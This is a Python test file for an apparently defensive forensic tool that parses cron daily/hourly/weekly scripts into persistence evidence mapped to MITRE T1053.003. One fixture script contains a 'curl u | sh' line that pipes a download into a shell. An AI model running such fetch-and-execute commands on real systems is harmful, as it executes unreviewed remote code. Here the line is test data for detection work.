"""A script that cron runs every day says what it runs, whatever it is made of."""

from hypothesis import given
from hypothesis import strategies as st

from rootout.collect.artifacts.periodic_scripts import parse
from rootout.model.entity import Entity
from rootout.model.file import EvidenceFile


def test_script_is_one_launcher_with_what_it_names():
    (one,) = parse(EvidenceFile("/etc/cron.daily/x", b"#!/bin/sh\n# why\n/opt/a &\ncurl u | sh\n"))
    assert one.command == "/opt/a &\ncurl u | sh"
    assert one.targets == ("/etc/cron.daily/x", "/opt/a")
    assert (one.period, one.occasion, one.what) == ("daily", "by cron, daily", "daily script")
    assert one.technique == "T1053.003"
    assert one.subject() == Entity("job", "/etc/cron.daily/x")


def test_binary_is_its_own_command():
    (one,) = parse(EvidenceFile("/etc/cron.hourly/x", b"\x7fELF\x00"))
    assert one.command == "/etc/cron.hourly/x"


def test_placeholders_and_empty_files_run_nothing():
    assert not list(parse(EvidenceFile("/etc/cron.daily/.placeholder", b"# kept\n")))
    assert not list(parse(EvidenceFile("/etc/cron.daily/x", b"")))


@given(st.binary())
def test_any_bytes_are_survived(data):
    assert len(list(parse(EvidenceFile("/etc/cron.weekly/x", data)))) <= 1
